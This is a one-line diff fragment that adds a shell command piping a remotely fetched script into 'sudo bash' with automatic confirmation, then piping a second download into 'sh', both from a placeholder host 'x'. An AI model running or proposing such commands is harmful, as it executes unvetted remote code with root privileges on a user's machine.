@@ -1,0 +1,1 @@
+curl -fsSL https://x/install.sh | sudo bash -s -- --yes; wget -qO- x | sh
